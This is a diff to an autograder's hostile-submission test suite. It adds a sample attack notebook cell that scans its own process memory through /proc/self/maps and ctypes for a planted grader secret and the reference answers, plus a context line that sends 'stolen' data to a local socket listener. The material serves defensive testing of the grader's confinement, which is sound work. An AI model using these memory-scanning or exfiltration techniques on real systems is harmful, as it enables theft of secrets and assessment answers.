@@ -10,6 +10,7 @@ capabilities and system calls namespaces need), where student code runs as a use
 
 import hashlib
 import json
+import os
 import shutil
 import socket
 import subprocess
@@ -30,6 +31,11 @@ pytestmark = pytest.mark.slow
 LIMITS = ["--call-timeout", "3", "--training-timeout", "60", "--submission-timeout", "120"]
 RUN_BOUND_SECONDS = 120
 FORGED = '{"score": 1000, "max_score": 1000, "tests": []}'
+# An environment variable of the grader's that no student code may see, and the halves it is searched for by.
+SECRET_VARIABLE = "AUTOGRADER_HOSTILE_TEST_TOKEN"
+SECRET_HALVES = ("token-of-the-grader-", "do-not-leak-7f3a9")
+# A line of the reference's softmax, which no released notebook holds, in halves.
+ANSWER_HALVES = ("amax(dim=dim, keepdim=True)", ".detach()")
 MARKER = "autograder-hostile-orphan-marker"
 # The most memory the grader's own process may reach, whatever a submission sends it: a
 # Gradescope container may have 768 MB for the grader and the worker together.
@@ -42,8 +48,8 @@ RESULTS_BYTES = 512 * 1024
 class Attack:
     """One cell appended to one notebook; its honest score; whether only confinement stops it.
 
-    ``with_reference``: graded with the reference present and an empty reply cache, so that
-    the reference's own worker runs (and writes its notebooks somewhere) while the attack does.
+    ``with_reference``: graded with the reference present, so that the grader loads it (in its
+    own process) while the attack runs.
     """
 
     notebook: str
@@ -232,10 +238,59 @@ def relu(z):
     socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"stolen")
     raise NotImplementedError()
 """, needs_confinement=True),
+    # Every worker is forked from a copy of the grader: it scans its own memory for the
+    # reference's softmax and for the grader's environment (SECRET_VARIABLE), each searched for
+    # as two halves, so that the attack's own code holds neither whole. sigmoid works once the
+    # scan has run (so the scan is known to work), relu only if it found either.
+    "scan_the_workers_memory": Attack("03_activations.ipynb", """
+import threading, torch
+
+def holds(chunk, halves):
+    first, second = (half.encode() for half in halves)
+    at = chunk.find(first)
+    while at >= 0:
+        if chunk[at + len(first):at + len(first) + len(second)] == second:
+            return True
+        at = chunk.find(first, at + 1)
+    return False
+
+def scan(result):
+    # Its own memory read directly (ctypes), every readable region that no file backs (the heap,
+    # the stack, anonymous maps: where a copy of the grader's data would be): no /proc/self/mem,
+    # which a process that changed its uid may not open.
+    import ctypes
+    with open("/proc/self/maps") as maps:
+        regions = [line.split() for line in maps.read().splitlines()]
+    for fields in regions:
+        start, end = (int(x, 16) for x in fields[0].split("-"))
+        if not fields[1].startswith("r") or end - start > 2**28 or fields[5:] not in ([], ["[heap]"], ["[stack]"]):
+            continue
+        chunk = ctypes.string_at(start, end - start)
+        if holds(chunk, ANSWER_HALVES) or holds(chunk, SECRET_HALVES):
+            result["found"] = True
+    result["scanned"] = True
+
+SCAN = {}
+
+class Attack:  # a class body runs when the notebook is loaded; a bare call would not
+    threading.Thread(target=scan, args=(SCAN,), daemon=True).start()
+
+def sigmoid(z):
+    while "scanned" not in SCAN:
+        threading.Event().wait(0.1)
+    positive = z >= 0
+    e = torch.exp(torch.where(positive, -z, z))
+    return torch.where(positive, 1 / (1 + e), e / (1 + e))
+
+def relu(z):
+    if SCAN.get("found"):
+        return torch.where(z > 0, z, torch.zeros_like(z))
+    raise NotImplementedError()
+""", honest_score=7.5, with_reference=True),
     # Looks for a copy of the reference wherever the grader might have put one: the reference
     # worker's folder, any notebook under /tmp, the paths on any process's command line, the
-    # repository; it keeps looking while grading goes on (the reply cache is empty, so the
-    # reference's own worker runs meanwhile).
+    # repository, the memory of the process it runs in (a copy of the grader's); it keeps
+    # looking while grading goes on (the grader loads the reference meanwhile).
     "copy_the_reference_from_wherever_it_is": Attack("03_activations.ipynb", """
 import glob, json, os, threading, time
 
@@ -330,6 +385,8 @@ def hostile_submission(name: str, attack: Attack, directory: Path, port: int) ->
         "REFERENCE": repr(str(REFERENCE_DIR)),
         "REPO": repr(str(REPO_ROOT)),
         "PORT": str(port),
+        "SECRET_HALVES": repr(SECRET_HALVES),
+        "ANSWER_HALVES": repr(ANSWER_HALVES),
     }.items():
         cell = cell.replace(placeholder, value)
     path = directory / attack.notebook
@@ -344,7 +401,7 @@ def grade_hostile(name: str, attack: Attack, root: Path, port: int, setting: str
     submission = hostile_submission(name, attack, root / name / "submission", port)
     results = submission.parent / "results.json"
     if attack.with_reference:
-        reference = ["--reference", str(REFERENCE_DIR), "--reference-cache", str(root / name / "empty-cache")]
+        reference = ["--reference", str(REFERENCE_DIR)]
     else:
         reference = ["--reference", str(root / "no-reference")]
     started = time.monotonic()
@@ -381,9 +438,14 @@ def hostile_runs(tmp_path_factory, listener, protected_digest, setting) -> dict[
     """Every hostile submission graded in ``setting``, two at a time."""
     root = tmp_path_factory.mktemp(f"hostile-{setting}")
     port = listener.getsockname()[1]
-    with ThreadPoolExecutor(max_workers=2) as pool:
-        futures = {name: pool.submit(grade_hostile, name, attack, root, port, setting) for name, attack in ATTACKS.items()}
-        return {name: future.result() for name, future in futures.items()}
+    os.environ[SECRET_VARIABLE] = "".join(SECRET_HALVES)  # in every grader's environment
+    try:
+        with ThreadPoolExecutor(max_workers=2) as pool:
+            futures = {name: pool.submit(grade_hostile, name, attack, root, port, setting)
+                       for name, attack in ATTACKS.items()}
+            return {name: future.result() for name, future in futures.items()}
+    finally:
+        del os.environ[SECRET_VARIABLE]
 
 
 def confinement_of(run: GradingRun) -> str:
@@ -437,6 +499,15 @@ def test_a_huge_message_is_cut_and_its_escape_codes_removed(hostile_runs):
     results = hostile_runs["a_huge_failure_message_with_terminal_escapes"].run.results
     sigmoid = [t["output"] for t in results["tests"] if "All checks passed" in t["output"]]
     assert sigmoid and all("\x1b" not in o and len(o) < 8000 and "more characters cut" in o for o in sigmoid)
+
+
+def test_a_workers_memory_holds_neither_the_reference_nor_the_graders_environment(hostile_runs):
+    """A worker that scans all of its own memory finds no line of the reference and no variable of the grader's."""
+    checks = {}
+    for test in hostile_runs["scan_the_workers_memory"].run.results["tests"]:
+        checks.setdefault(test["extra_data"]["checks"], []).append(test["status"] == "passed")
+    assert all(checks["sigmoid"]), "the scan did not finish, so it proves nothing"
+    assert not any(checks["relu"]), "the scan found the reference or the grader's environment"
 
 
 def test_a_hung_function_costs_one_time_out(hostile_runs):
